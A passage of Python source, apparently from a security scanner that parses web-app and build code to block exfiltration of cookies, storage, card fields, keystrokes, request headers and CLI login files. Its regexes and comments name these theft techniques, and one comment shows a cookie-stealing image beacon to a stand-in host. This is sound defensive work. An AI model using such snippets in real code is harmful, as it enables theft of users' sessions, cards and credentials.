"""Web-app and build code that takes what is secret in visitors' browsers or on the developer's machine and
sends it to a host that is not the app's own (rule `exfiltration`, block).

What is secret here, beyond the environment and credential files network.py follows:
- in a visitor's browser: `document.cookie`, the whole of `localStorage`/`sessionStorage` (or items picked at run
  time), the card fields of a checkout (`#cc-number`, `getElementById("cardNumber")`, also through a helper: sent
  to a payment processor's hosts they are how a card is charged), every form a page submits (`new FormData(...)` in a `submit` listener on the document), the keys typed on
  a page (`e.key` in a key listener on the document), the bodies of the page's own requests read by a service
  worker (`event.request.clone().text()`);
- in a request a server (or a fetch wrapper) handles: its `authorization` and `cookie` headers, all its cookies, the
  card fields a payment form posts (`req.body.cardNumber`, `const { cardNumber, cvc } = req.body`);
- in the user's own browser, attached through its debugging port (`puppeteer.connect`, `connectOverCDP`) with no
  browser launched by the code: every cookie CDP lists, and what its logged-in pages show;
- on the machine: the hosting CLIs' login files (Firebase, Vercel, Netlify, Wrangler), a credential file read by a
  helper of the code's own (`grab(".aws/credentials")`), a token the code has just minted through an API.
Sent in a request's body or URL (fetch and its clients, `navigator.sendBeacon`, `new Image().src`) to a literal
host that is not this machine: blocked. A header authenticates (a proxy forwarding a visitor's `authorization` to
its backend, a page calling its API with its token) and a relative URL is the app's own origin: both stay allowed,
as do analytics of what is not secret. Script text the code injects into pages or bundles (`<script>` in
`previewHead`, a chunk appended in `renderChunk`) is judged as the code it is. A handler that checks a request's
signature but skips the check when a header or field equals a value written in the code is a key anyone who reads it
holds (rule `privilege-escalation`, block).
"""
from __future__ import annotations

import re

from ..per_input import in_input
from .. import paths
from ..common_code import SCRIPT_SENDS, page_scripts, remote_target
from .extensions import EXT_HINT, Extensions
from .network import _AUTH_KEYS, _CLIENTS, _FETCHES, _HTTP, _TLS_IDENTITY, _VERBS, _WRAPS, _within

# a cheap test on the snippet: something of the above may be read in it
HINT = re.compile(rb"document\.cookie|localStorage|sessionStorage|AsyncStorage|SecureStore|MMKV|[\x27\x22](?:authorization|cookie)[\x27\x22]|"
                  rb"headers\.(?:authorization|cookie)|\.cookies\b|FormData|\.clone\(\)|key(?:up|down|press)|"
                  rb"addEventListener\(\s*[\x27\x22](?:input|change|blur|focusout|paste)[\x27\x22]|"
                  rb"(?i:password|passwd|cc-?num|card.?num|cvv|cvc|one-time-code)|"
                  rb"getAllCookies|getCookies|connectOverCDP|chrome-remote-interface|\.connect\(|configstore|"
                  rb"com\.vercel\.cli|netlify|wrangler|homedir|/tokens|api[-_]?keys|<script|renderChunk|generateBundle|"
                  rb"transformIndexHtml|server\s*:|define\s*:|importScripts|banner\s*:|footer\s*:|\.code\s*\+?=|"
                  rb"fromEntries\(\s*[\w.]+\.headers|headers\.entries\(|captureVisibleTab|history\.(?:search|getVisits)\b|"
                  + EXT_HINT.pattern)
# script text that reads a page's secrets and sends them (for code injected as a string)
_SCRIPT_READS = re.compile(r"document\.cookie|localStorage|sessionStorage|addEventListener|process\.env|FormData")
_STORAGES = frozenset({"localStorage", "sessionStorage", "window.localStorage", "window.sessionStorage",
                       "self.localStorage", "globalThis.localStorage"})
# a mobile app's own stores of what the user is signed in with (React Native's AsyncStorage, Expo's SecureStore,
# MMKV) and the reads that take items by a key computed at run time
_APP_STORES = frozenset({"AsyncStorage", "SecureStore", "MMKV", "mmkv", "EncryptedStorage", "Keychain"})
_APP_STORE_READS = frozenset({"multiGet", "getItem", "getItemAsync", "getString", "getGenericPassword"})
_AUTH_HEADERS = frozenset({"authorization", "cookie", "proxy-authorization", "x-api-key", "x-auth-token"})
_BODY_READS = frozenset({"text", "json", "formData", "arrayBuffer", "blob"})
_KEY_EVENTS = frozenset({"keyup", "keydown", "keypress"})
# the hosts a service worker's importScripts ordinarily names: Firebase's and OneSignal's messaging workers, the
# npm CDNs (Workbox's own CDN is checked by its path, storage.googleapis.com serving anyone's bucket)
_WORKER_SCRIPT_HOSTS = frozenset({"www.gstatic.com", "cdn.onesignal.com", "cdn.jsdelivr.net", "unpkg.com",
                                  "cdnjs.cloudflare.com", "esm.sh", "cdn.skypack.dev", "ajax.googleapis.com"})
# the bundler hooks whose text ends up in the output chunks
_CHUNK_HOOKS = frozenset({"renderChunk", "generateBundle", "banner", "footer", "intro", "outro", "augmentChunkHash"})
# script text that loads another script: a `<script>` element made and given a src, a dynamic import or
# importScripts of a URL, `document.write('<script src=…')`
_LOADS_SCRIPT = re.compile(r"createElement\(\s*[\x27\x22\\]*script[\x27\x22\\]*\s*\)|\bimport\(\s*[\x27\x22`]https?:|"
                           r"importScripts\(\s*[\x27\x22`]https?:|document\.write\w*\(.*<script[^>]*\bsrc\s*=",
                           re.I | re.S)
# events a listener on the whole document hears for every field of every form
_FIELD_EVENTS = frozenset({"change", "input", "blur", "focusout", "keyup", "keydown", "keypress", "paste"})
# the code of such a listener picking out the fields that hold credentials or card numbers
_SECRET_FIELD = re.compile(r"(?i)password|passwd|\bpwd\b|cc-?num|card.?num|\bcvc\b|\bcvv\b|one-time-code|\botp\b")
# (session 29) shorter words counted only in a test on the field's name or id (`/pass|token/i.test(t.name)`,
# `el.name === 'token'`, `[name=pass]`): elsewhere `token` is the page's own (an Authorization header, a CSRF token)
_NAMED_SECRET = (r"(?:pass|token|secret|api_?key|apikey|key)")
_SECRET_NAME_TEST = re.compile(r"(?i)/[^/\n]{0,80}?\b" + _NAMED_SECRET + r"\b[^/\n]{0,80}/[a-z]{0,6}\.test\(\s*+[\w.]{1,60}"
                               r"\.(?:name|id)\b|\.(?:name|id)\s*===?\s*['\"`]" + _NAMED_SECRET + r"['\"`]|"
                               r"\.(?:name|id)\.includes\(\s*['\"`]" + _NAMED_SECRET + r"['\"`]|\[\s*name\s*[*^$]?=\s*['\"]?"
                               + _NAMED_SECRET + r"\b")
# (a test that leaves the field out: `if (el.name === 'token') return;`)
_SKIPPED = re.compile(r"[\s)]{0,8}(?:return|continue)\b")
_SECRET_FIELD_SELECTOR = re.compile(r"(?i)\[\s*(?:type\s*=\s*[\x27\x22]?password|autocomplete\s*=\s*[\x27\x22]?"
                                    r"(?:current-password|new-password|cc-number|cc-csc|one-time-code))")
# a card's number or security code picked by id, name, class or autocomplete (`#cc-number`, `[name=cardnumber]`,
# `card-cvc`), and the DOM lookups that pick a field by one
_CARD_SELECTOR = re.compile(r"(?i)cc-?(?:num|csc|cvc|cvv)|card[-_ ]?(?:num|no\b|cvc|cvv|csc|code|security)|"
                            r"(?<![a-z])(?:cvv|cvc|csc)2?(?![a-z])|security[-_ ]?code")
# the body of a request a server handles (what a payment form posts)
_REQUEST_BODY = re.compile(r"^\(?\s*(?:await\s+)?(?:req|request|ctx\.request|c\.req)\s*\.\s*(?:body|json\s*\(\s*\))"
                           r"(?![\w.])")
_POSTED_CARD = "the card details a payment form posts to the app (a skimmer in its handler)"
_DOM_LOOKUPS = frozenset({"querySelector", "getElementById", "getElementsByName", "querySelectorAll", "$", "$$", "jQuery"})
# the payment processors a checkout sends the card it reads to (their own APIs tokenize and charge it)
_PROCESSORS = ("stripe.com", "braintreegateway.com", "braintree-api.com", "paypal.com", "adyen.com",
               "adyenpayments.com", "checkout.com", "squareup.com", "squareupsandbox.com", "authorize.net",
               "worldpay.com", "mollie.com", "razorpay.com", "paddle.com", "klarna.com", "cybersource.com",
               "payeezy.com", "globalpay.com", "spreedly.com", "recurly.com", "chargebee.com", "mercadopago.com",
               "paystack.co", "flutterwave.com", "payu.com", "2checkout.com", "nmi.com", "elavon.com")
# a handler checking a request's signature (a cheap test on the snippet), and the calls that check it
SIGNATURE_HINT = re.compile(rb"constructEvent|[Vv]erif|validateRequest|[Vv]alidateWebhook|timingSafeEqual|checkSignature")
_VERIFY_CALL = re.compile(r"\b(?:constructEvent(?:Async)?|\w*[Vv]erify\w*|validateRequest\w*|[Vv]alidateWebhook\w*|"
                          r"timingSafeEqual|checkSignature|isValid\w*Signature|verifySignature)\s*\(")
# a field of the request a client chooses (a header, a query or body field, a cookie)
_REQUEST_FIELD = re.compile(r"\b(?:req|request|ctx\.request|event|c\.req)\s*\.\s*(?:headers?|query|body|cookies|"
                            r"params|get|header)\b[^=!]*")
# what is not a key: the method, path or content type of the request, the provider's own event type
_NOT_KEYS = re.compile(r"(?i)content-type|x-forwarded-proto|\bmethod\b|\bpath\b|event[-_]?type|x-github-event|"
                       r"x-gitlab-event|\btype\b|accept")
# the branch that skips the check takes the body as the event
_TRUSTS_BODY = re.compile(r"\b(?:req|request|ctx\.request|c\.req)\s*\.\s*(?:body|rawBody|text\s*\(|json\s*\()|"
                          r"JSON\.parse\(|\bnext\s*\(")
_CDP_COOKIES = frozenset({"Network.getAllCookies", "Storage.getCookies", "Network.getCookies"})
# what a page of the user's own browser shows, read by an automation library attached to it
_PAGE_READS = frozenset({"$eval", "$$eval", "evaluate", "content", "cookies", "textContent", "innerText",
                         "inner_text", "innerHTML", "getAllCookies", "getCookies"})
# the hosting CLIs' stored logins
_CLI_LOGINS = re.compile(r"configstore/firebase-tools\.json$|com\.vercel\.cli/auth\.json$|/\.?netlify/config\.json$|"
                         r"\.wrangler/config/default\.toml$|/\.vercel/auth\.json$|/\.config/\.?vercel/auth\.json$")
# APIs that create a credential and return it (a POST to one of these paths)
_MINTS = re.compile(r"/(?:user/)?tokens/?$|/api[-_]?keys/?$|/access[-_]tokens/?$|/personal[-_]access[-_]tokens/?$",
                    re.I)
# what an extension reads of the user's browser: method -> (its namespace, what it is)
_BROWSER_READS = {"captureVisibleTab": ("tabs", "a screenshot of the tab the user is looking at"),
                  "search": ("history", "the user's browsing history"),
                  "getVisits": ("history", "the user's visits to a site")}
_BROWSER_NS = r"(?:chrome|browser|globalThis\.chrome|window\.chrome)"
_UNASKED = ", taken with no click of the user's"
# the events an extension hears when its user acts: its toolbar button, its menu items, its keyboard commands, a
# message from its own popup or options page
_GESTURES = (r"(?:action|browserAction|pageAction|contextMenus|menus|commands|runtime)\."
             r"(?:onClicked|onCommand|onMessage)")
_GLOBAL_FETCH = frozenset({"globalThis.fetch", "window.fetch", "self.fetch", "global.fetch", "fetch"})


class WebApp(Extensions):
    """Browser and visitor secrets sent to another host; script text injected into pages."""

    def webapp_checks(self) -> None:
        """Run once per snippet, after the walk, when HINT matched."""
        if in_input(EXT_HINT, self.doc.data):
            self.extension_checks()
        self._web_attached = None
        self._web_defines = {}
        stack = [self.root]
        senders, injected = [], []
        while stack:
            n = stack.pop()
            t = n.type
            if t == "call_expression":
                senders.append(n)
                self._imported_script(n)
            elif t == "assignment_expression":
                left = n.child_by_field_name("left")
                if left is not None and left.type == "member_expression" and \
                        self.src(left.child_by_field_name("property")) == "src" and self._image(left):
                    senders.append(n)
            elif t in ("string", "template_string"):
                injected.append(n)
                continue
            elif t == "binary_expression" and self.string(n) is not None:
                injected.append(n)
                continue
            elif t == "pair":
                self._dev_server(n)
                self._defines(n)
            stack.extend(n.named_children)
        for n in senders:
            if self._web_sent(n):
                return
        for n in injected:
            self._injected(n)

    # -- the senders -------------------------------------------------------------------------------------------------
    def _web_sent(self, node) -> bool:
        if node.type == "assignment_expression":  # new Image().src = `https://x/?c=${document.cookie}`
            return self._web_judge("new Image().src", node, node.child_by_field_name("right"), [])
        fn = node.child_by_field_name("function")
        if fn is None or fn.type == "import":
            return False
        q = self.qualname(fn)
        if q is None:
            return False
        if fn.type == "identifier" and not self.mutable(q) and q in self.bound and \
                self.qualname(self.bound[q]) in _GLOBAL_FETCH:
            q = "fetch"  # const orig = globalThis.fetch; orig(url, …)
        args = self.args(node)
        if not args:
            return False
        mod, member = self.module(q)
        if (mod, member) in _FETCHES or q in _GLOBAL_FETCH or (mod in _CLIENTS and member in _VERBS):
            if args[0].type == "object" and (mod, member) in _FETCHES:
                return False
            return self._web_judge(q, node, args[0], args[1:])
        if q.endswith("sendBeacon"):
            return self._web_judge("navigator.sendBeacon", node, args[0], args[1:])
        return False

    def _web_judge(self, what: str, node, url, rest: list) -> bool:
        text = self._url_text(url)
        host = remote_target(text) if text is not None else None
        if not host:
            return False  # the app's own origin (a relative URL), this machine, or a host not written here
        roots = list(self._url_payload(url)) + [r for r in rest if r is not None]
        for said, at, minted in self._web_carried(roots):
            if minted is not None and any(m == host or host.endswith("." + m) for m in
                                          ((minted,) if isinstance(minted, str) else minted)):
                continue
            if said.endswith(_UNASKED):
                self.block("exfiltration", f"`{what}` sends {said}, to {host}: the user's screen and history leave "
                                           "their browser without their knowing; take and send them only when the "
                                           "user asks (the extension's button or menu item), to the extension's "
                                           "own service", at)
                return True
            self.block("exfiltration", f"`{what}` sends {said} to {host}, a host that is not the app's own: never "
                                       "send visitors' or the user's sessions, tokens or credentials elsewhere; keep "
                                       "them in requests to the app's own origin (a relative URL)", at)
            return True
        return False

    def _web_carried(self, roots: list) -> list:
        """(what it is, node, the host that minted it or None) for each secret the expressions `roots` carry (not in
        their headers)."""
        out: list = []
        # `top`: the request's own options (their `headers` authenticate it); inside a body
        # (`JSON.stringify({ headers: … })`) a key named so is data like any other
        stack = [(r, 0, True) for r in reversed(roots)]
        seen: set = set()
        steps = 0
        while stack and steps < 800:
            n, depth, top = stack.pop()
            steps += 1
            if n is None or n.id in seen:
                continue
            seen.add(n.id)
            t = n.type
            if t in ("comment", "number", "regex", "true", "false", "null", "property_identifier", "type_annotation"):
                continue
            if t in ("string", "template_string") and self.string(n) is not None:
                continue
            if t == "pair":
                key = n.child_by_field_name("key")
                if top and key is not None and self.src(key).strip("'\"`").lower() in _AUTH_KEYS:
                    continue  # a header authenticates the request
                if key is not None and self.src(key).strip("'\"`") in _TLS_IDENTITY and self._tls_options(n):
                    continue  # (session 30) an https.Agent's client certificate and key sign the handshake, as in
                    # network.py: nothing of them is sent
                stack.append((n.child_by_field_name("value"), depth, False))
                continue
            found = self._web_source(n) or self._posted_card(n)
            if found is not None:
                out.append((found[0], n, found[1]))
                continue
            if t == "call_expression":
                fn = n.child_by_field_name("function")
                if fn is not None and _HTTP.search(self.src(fn)):
                    continue  # another request's response
            if t in ("identifier", "shorthand_property_identifier"):
                if depth < 6:
                    stack.extend((v, depth + 1, top and v.type in ("object", "identifier"))
                                 for v in self._web_values(n))
                continue
            stack.extend((c, depth, top and t in ("object", "spread_element", *_WRAPS))
                         for c in reversed(n.named_children))
        return out

    def _web_values(self, ident) -> list:
        """What the name `ident` holds: network.py's values, a name destructured from an object
        (`const { cookies } = await cdp.send(…)`), a promise callback's parameter (`p.then((body) => …)`)."""
        values, changes = self._values_of(ident)
        if values or changes:
            return values + changes + self._shared(ident)
        name = self.src(ident)
        up = ident.parent
        while up is not None:
            if up.type in ("arrow_function", "function_expression", "function"):
                params = self.parameters(up) or {}
                if name in params:
                    holder = up.parent
                    call = holder.parent if holder is not None and holder.type == "arguments" else None
                    fn = call.child_by_field_name("function") if call is not None else None
                    if fn is not None and fn.type == "member_expression" and \
                            self.src(fn.child_by_field_name("property")) == "then":
                        return [fn.child_by_field_name("object")]
                    return []
            elif up.type == "program":
                break
            up = up.parent
        for d in self._destructured().get(name, ()):
            if d.start_byte < ident.start_byte:
                return [d]
        return []

    def _shared(self, ident) -> list:
        """What other functions put into a name the whole script shares (`let buffer = ""` at the top, `buffer +=
        …` in a listener, sent from a timer): a buffer filled by one callback and emptied by another."""
        name = self.src(ident)
        given, changed = self._name_table().get(name, ((), ()))
        top = False
        for v, where in given:
            decl = v.parent
            if decl is not None and decl.type == "variable_declarator" and \
                    self.src(decl.child_by_field_name("name")) == name:
                if where is None or where.type != "program":
                    return []  # a name of its own in some function: not the shared one
                top = True
        if not top:
            return []
        return [v for v, where in list(given) + list(changed)
                if where is not None and where.type != "program" and not _within(ident, where) and
                v.type != "number" and self.string(v) is None]

    def _destructured(self) -> dict:
        state = self._flows_state()
        table = state.get("web destructured")
        if table is None:
            table = state["web destructured"] = {}
            stack = [self.root]
            while stack:
                n = stack.pop()
                if n.type == "variable_declarator":
                    name, value = n.child_by_field_name("name"), n.child_by_field_name("value")
                    if name is not None and value is not None and name.type == "object_pattern":
                        for c in name.named_children:
                            key = c.child_by_field_name("value") if c.type == "pair_pattern" else c
                            if key is not None and key.type in ("shorthand_property_identifier_pattern", "identifier"):
                                table.setdefault(self.src(key), []).append(value)
                stack.extend(n.named_children)
        return table

    # -- the sources -------------------------------------------------------------------------------------------------
    def _web_source(self, n):
        """(what `n` is, the host that minted it or None) when it reads a secret of the kinds above; else None."""
        t = n.type
        if t == "member_expression":
            text = self.src(n).replace("?.", ".")
            if text.endswith("document.cookie"):
                return "the page's cookies (document.cookie)", None
            if text in _STORAGES and not self._storage_method(n):
                return f"everything in {text.rpartition('.')[2]}", None
            prop = self.src(n.child_by_field_name("property"))
            obj = self.src(n.child_by_field_name("object"))
            if prop.lower() in _AUTH_HEADERS and obj.lower().endswith("headers"):
                return f"the request's {prop.lower()} header", None
            if prop == "cookies" and re.search(r"(?i)\b(?:req|request)$", obj) and not self._storage_method(n):
                return "every cookie of the request", None
            if self._keystroke(n, prop):
                return "the keys typed on the page (a keylogger)", None
            if prop == "value":
                kind = self._field_value(n.child_by_field_name("object"))
                if kind == "card":  # (a card goes to the processor that charges it, and nowhere else)
                    return "the card details visitors type at checkout (a skimmer)", _PROCESSORS
                if kind:
                    return "what visitors type into password or login fields", None
            return None
        if t == "identifier":
            if self.src(n) in _STORAGES and not self._storage_method(n):
                return f"everything in {self.src(n)}", None
            return None
        if t == "new_expression":
            if self.src(n.child_by_field_name("constructor")) == "FormData" and self._in_listener(n, ("submit",)):
                return "every form submitted on the page (a listener on the whole document)", None
            return None
        if t != "call_expression":
            return None
        fn = n.child_by_field_name("function")
        if fn is None or fn.type == "import":
            return None
        args = self.args(n)
        if fn.type != "member_expression":
            return self._helper_read(n, fn) or self._login_read(n, fn, self.src(fn), args)
        prop = self.src(fn.child_by_field_name("property"))
        obj = fn.child_by_field_name("object")
        key = self.string(args[0]) if args else None
        if prop == "get" and key is not None and key.lower() in _AUTH_HEADERS and self._headers(obj):
            return f"the request's {key.lower()} header", None
        if prop == "getAll" and self.src(obj).endswith("cookies"):
            return "every cookie of the request", None
        if prop == "getItem" and self.src(obj) in _STORAGES and args and key is None:
            return f"items of {self.src(obj).rpartition('.')[2]} picked at run time", None
        if prop in _APP_STORE_READS and args and args[0].type != "array" and key is None and \
                self.src(obj).rpartition(".")[2] in _APP_STORES:
            # AsyncStorage.multiGet(await AsyncStorage.getAllKeys()): every session and token the app keeps
            return f"the items of the app's {self.src(obj).rpartition('.')[2]} picked at run time (its sessions and " \
                   "tokens)", None
        if prop in _BODY_READS and not args:
            request, cloned = self._request(obj)
            if request and (cloned or re.search(rb"addEventListener\(\s*[\x27\x22]fetch[\x27\x22]|onfetch",
                                                 self.doc.data)):
                return "the body of a request the app receives (what a visitor typed into a form)", None
        if (self.src(fn) == "Object.fromEntries" or prop in ("entries", "values") and not args) and \
                self._request_headers(args[0] if args and prop != "entries" else obj):
            return "every header of a request the app receives (its cookies and authorization)", None
        if prop == "val" and not args and obj is not None and self._card_field(obj):  # jQuery's $("#cc-number").val()
            return "the card details visitors type at checkout (a skimmer)", _PROCESSORS
        browser = self._browser_read(fn, prop)
        if browser is not None:
            return browser, None
        if prop == "send" and key in _CDP_COOKIES:
            return f"every cookie of the browser ({key})", None
        if prop in _PAGE_READS and self._attached():
            return "what the user's own browser shows (attached through its debugging port)", None
        if prop in ("json", "text") and obj is not None:
            minted = self._minted(obj)
            if minted is not None:
                return f"a credential just created at {minted}", minted
        return self._login_read(n, fn, prop, args)

    def _posted_card(self, n):
        """A card's number or code as a payment form posts it to the app's server (`req.body.cardNumber`, `const {
        cardNumber, cvc } = req.body`): sent on to another host than the processor that charges it, a skimmer in the
        server's handler."""
        if n.type == "member_expression":
            obj, prop = n.child_by_field_name("object"), n.child_by_field_name("property")
            if prop is not None and _CARD_SELECTOR.search(self.src(prop)) and obj is not None and \
                    _REQUEST_BODY.search(self.src(obj)):
                return _POSTED_CARD, _PROCESSORS
            return None
        if n.type not in ("identifier", "shorthand_property_identifier") or not _CARD_SELECTOR.search(self.src(n)):
            return None
        for d in self._destructured().get(self.src(n), ()):
            if d.start_byte < n.start_byte and _REQUEST_BODY.search(self.src(d)):
                return _POSTED_CARD, _PROCESSORS
        return None

    def _browser_read(self, fn, prop: str) -> str | None:
        """An extension's read of what the user's browser holds (a screenshot of the tab they look at, their
        browsing history) that no click of theirs asked for: taken on a timer, at install, on every page load."""
        what = _BROWSER_READS.get(prop)
        if what is None:
            return None
        text = self.src(fn).replace("?.", ".")
        # (a `history` of the app's own is not the browser's; the screenshot call is the browser's by its name)
        pattern = rf"(?:^|\.){what[0]}\.{prop}$" if prop == "captureVisibleTab" else \
            rf"^{_BROWSER_NS}\.{what[0]}\.{prop}$"
        if not re.search(pattern, text) or \
                self._on_gesture(fn):
            return None
        return f"{what[1]} ({text}){_UNASKED}"

    def _on_gesture(self, n) -> bool:
        """Whether `n` runs because the user asked: inside a listener of the extension's button, menu item or
        keyboard command, a message from its own pages, or a click on one of them (also a function of the code's
        own handed to one)."""
        up = n.parent
        while up is not None:
            if up.type in ("arrow_function", "function_expression", "function", "function_declaration",
                           "method_definition"):
                holder = up.parent
                call = holder.parent if holder is not None and holder.type == "arguments" else None
                if call is not None and self._gesture_listener(call):
                    return True
                name = up.child_by_field_name("name")
                if name is None and holder is not None and holder.type == "variable_declarator":
                    name = holder.child_by_field_name("name")
                if name is not None and re.search(
                        rf"(?:{_GESTURES})\.addListener\(\s*{re.escape(self.src(name))}\b|addEventListener\(\s*"
                        rf"[\x27\x22](?:click|submit)[\x27\x22]\s*,\s*{re.escape(self.src(name))}\b|"
                        rf"\.onclick\s*=\s*{re.escape(self.src(name))}\b",
                        self.doc.data.decode("utf-8", "replace")):
                    return True
            up = up.parent
        return False

    def _gesture_listener(self, call) -> bool:
        fn = call.child_by_field_name("function")
        text = self.src(fn).replace("?.", ".") if fn is not None else ""
        if re.search(rf"(?:{_GESTURES})\.addListener$", text):
            return True
        args = self.args(call)
        return text.endswith("addEventListener") and bool(args) and self.string(args[0]) in ("click", "submit")

    def _login_read(self, n, fn, last: str, args: list):
        """A read of a credential file or of a hosting CLI's stored login."""
        if last not in ("readFileSync", "readFile", "readJson", "readJsonSync", "readJSON", "readJSONSync") or not args:
            return None
        read = self._file_read(n, fn)
        if read is not None and read[0] == "file":
            return f"the credential file {read[1]}", None
        path = self.decoded(args[0])
        if path is not None and _CLI_LOGINS.search(path):
            return f"a hosting CLI's stored login ({path})", None
        return None

    def _helper_read(self, call, fn):
        """`grab(".aws/credentials")` with `grab` a helper of the code's own reading a file under the home."""
        if fn is None or fn.type != "identifier":
            return None
        name = self.src(fn)
        if name not in self.functions:
            return None
        values, _ = self._values_of(fn)
        made = values[-1] if values else self._declared_function(name)
        body = self.src(made) if made is not None else ""
        if not made or "homedir" not in body or not re.search(r"\bread(?:File|FileSync|Json)\b", body):
            return None
        for a in self.args(call):
            v = self.string(a)
            if v and not v.startswith(("/", "~")) and (paths.is_secret("~/" + v) or _CLI_LOGINS.search("~/" + v)):
                return f"the credential file ~/{v}", None
        return None

    def _declared_function(self, name: str):
        stack = [self.root]
        while stack:
            n = stack.pop()
            if n.type == "function_declaration" and self.src(n.child_by_field_name("name")) == name:
                return n
            stack.extend(n.named_children)
        return None

    def _minted(self, obj):
        """The host of a POST that creates a credential when `obj` holds its response."""
        while obj is not None and obj.type in _WRAPS and obj.named_children:
            obj = obj.named_children[0]
        if obj is not None and obj.type == "identifier":
            values, _ = self._values_of(obj)
            obj = values[-1] if values else None
            while obj is not None and obj.type in _WRAPS and obj.named_children:
                obj = obj.named_children[0]
        if obj is None or obj.type != "call_expression":
            return None
        fn = obj.child_by_field_name("function")
        q = self.qualname(fn) if fn is not None and fn.type != "import" else None
        if q is None or (self.module(q) not in _FETCHES and q not in _GLOBAL_FETCH):
            return None
        args = self.args(obj)
        text = self._url_text(args[0]) if args else None
        if not text or not re.search(r"(?i)\bmethod\s*:\s*['\"`]POST", self.src(obj)):
            return None
        path = text.split("?", 1)[0]
        host = remote_target(text)
        return host if host and _MINTS.search(path) else None

    def _request(self, node, depth: int = 0) -> tuple[bool, bool]:
        """(whether `node` is a request the code handles, whether it is a copy of one): `event.request`, a handler's
        `request`/`req`, `req.clone()`, a name bound to one of these."""
        cloned = False
        while node is not None and depth < 6:
            depth += 1
            while node.type in _WRAPS and node.named_children:
                node = node.named_children[0]
            if node.type == "call_expression":
                fn = node.child_by_field_name("function")
                if fn is None or fn.type != "member_expression" or \
                        self.src(fn.child_by_field_name("property")) != "clone":
                    return False, False
                node, cloned = fn.child_by_field_name("object"), True
                continue
            text = self.src(node)
            if node.type == "identifier":
                if text in ("request", "req") and self._parameter(node):
                    return True, cloned  # a handler's request (`fetch(request, env, ctx)`, `(req, res) => …`)
                values, _ = self._values_of(node)
                if text in ("request", "req"):  # `const req = event.request`, not `new Request(…)` made here
                    made = values[-1] if values else None
                    return made is None or made.type not in ("new_expression", "string", "template_string"), cloned
                if values:
                    node = values[-1]
                    continue
                return False, False
            if node.type == "member_expression":
                return re.search(r"(?:^|\.)request$", text) is not None, cloned
            return False, False
        return False, False

    def _parameter(self, ident) -> bool:
        name = self.src(ident)
        up = ident.parent
        while up is not None:
            if up.type in ("arrow_function", "function_expression", "function", "method_definition",
                           "function_declaration"):
                if name in (self.parameters(up) or {}):
                    return True
            up = up.parent
        return False

    def _request_headers(self, node) -> bool:
        """`request.headers` (or a copy's) as a whole: `Object.fromEntries(copy.headers)`, `req.headers.entries()`."""
        if node is None:
            return False
        while node.type in _WRAPS and node.named_children:
            node = node.named_children[0]
        if node.type == "call_expression":  # req.headers.entries()
            fn = node.child_by_field_name("function")
            if fn is None or fn.type != "member_expression" or self.args(node) or \
                    self.src(fn.child_by_field_name("property")) != "entries":
                return False
            node = fn.child_by_field_name("object")
        if node is None or node.type != "member_expression" or \
                self.src(node.child_by_field_name("property")) != "headers":
            return False
        return self._request(node.child_by_field_name("object"))[0]

    def _storage_method(self, n) -> bool:
        """`localStorage.getItem(…)`, `localStorage.setItem`: one item (or a write), not the whole store."""
        up = n.parent
        return up is not None and up.type in ("member_expression", "subscript_expression") and \
            up.child_by_field_name("object") == n

    def _headers(self, obj) -> bool:
        if obj is None:
            return False
        if self.src(obj).lower().endswith("headers"):
            return True
        if obj.type == "identifier":
            values, _ = self._values_of(obj)
            return any(v.type == "new_expression" and self.src(v.child_by_field_name("constructor")) == "Headers"
                       for v in values)
        return False

    def _keystroke(self, n, prop: str) -> bool:
        if prop not in ("key", "code", "keyCode", "which", "char"):
            return False
        return self._in_listener(n, _KEY_EVENTS)

    def _field_value(self, obj) -> str | bool:
        """`.value` of a password or login field: one a selector picks by its type (`input[type=password]`), or the
        target of a listener on the whole document whose code picks such fields (`el.type === 'password'`); "card"
        for a card's number or security code picked by its id, name or autocomplete (`#cc-number`,
        `getElementById("cardNumber")`, also through a helper of the code's own: `q("#cc-cvc")`)."""
        if obj is None:
            return False
        card = self._card_field(obj)
        if card:
            return "card"
        for _ in range(3):
            while obj.type in _WRAPS and obj.named_children:
                obj = obj.named_children[0]
            if obj.type != "identifier":
                break
            values, _ = self._values_of(obj)
            if not values:
                break
            obj = values[-1]
        text = self.src(obj)
        if _SECRET_FIELD_SELECTOR.search(text):
            return True
        if not (obj.type == "member_expression" and self.src(obj.child_by_field_name("property")) in
                ("target", "srcElement", "activeElement")):
            return False
        listener = self._listener(obj, _FIELD_EVENTS)
        if listener is None:
            return False
        code = self.src(listener)
        return _SECRET_FIELD.search(code) is not None or \
            any(_SKIPPED.match(code, m.end()) is None for m in _SECRET_NAME_TEST.finditer(code))

    def _card_field(self, obj) -> bool:
        """Whether `obj` is an element a DOM lookup picks by a card field's selector (`document.querySelector(s)` with
        `s` a literal, or a helper's parameter given one at a call)."""
        while obj.type in _WRAPS and obj.named_children:
            obj = obj.named_children[0]
        if obj.type == "subscript_expression":  # getElementsByName("cardnumber")[0]
            obj = obj.child_by_field_name("object")
            while obj is not None and obj.type in _WRAPS and obj.named_children:
                obj = obj.named_children[0]
        if obj is None or obj.type != "call_expression":
            return False
        fn = obj.child_by_field_name("function")
        last = self.src(fn).rpartition(".")[2] if fn is not None else ""
        args = self.args(obj)
        if last not in _DOM_LOOKUPS or not args:
            return False
        sel = args[0]
        values = [sel] if sel.type != "identifier" else self._values_of(sel)[0][:16]
        return any(_CARD_SELECTOR.search(v) for v in (self.string(x) for x in values) if v)

    def _in_listener(self, n, events) -> bool:
        """Whether `n` is inside a listener for one of `events` added on the whole document or window."""
        return self._listener(n, events) is not None

    def _listener(self, n, events):
        """The listener for one of `events` added on the whole document or window that `n` is inside, or None."""
        up = n.parent
        while up is not None:
            if up.type in ("arrow_function", "function_expression", "function"):
                holder = up.parent
                call = holder.parent if holder is not None and holder.type == "arguments" else None
                fn = call.child_by_field_name("function") if call is not None else None
                if fn is not None and self.src(fn) in ("document.addEventListener", "window.addEventListener",
                                                       "addEventListener", "document.body.addEventListener"):
                    args = self.args(call)
                    return up if args and self.string(args[0]) in events else None
            up = up.parent
        return None

    def _attached(self) -> bool:
        """Whether the code attaches to a browser it did not launch (the user's own, through its debugging port)."""
        if self._web_attached is None:
            data = self.doc.data
            self._web_attached = bool((re.search(rb"\b(?:puppeteer|playwright)", data) and re.search(
                rb"\.connect\(\s*\{[^}]*browser(?:URL|WSEndpoint)|connectOverCDP\(", data) or
                re.search(rb"[\x27\x22]chrome-remote-interface[\x27\x22]", data)) and
                not re.search(rb"\.launch(?:PersistentContext)?\(|chrome-launcher|--user-data-dir", data))
        return self._web_attached

    def _image(self, left) -> bool:
        obj = left.child_by_field_name("object")
        while obj is not None and obj.type in _WRAPS and obj.named_children:
            obj = obj.named_children[0]
        if obj is not None and obj.type == "identifier":
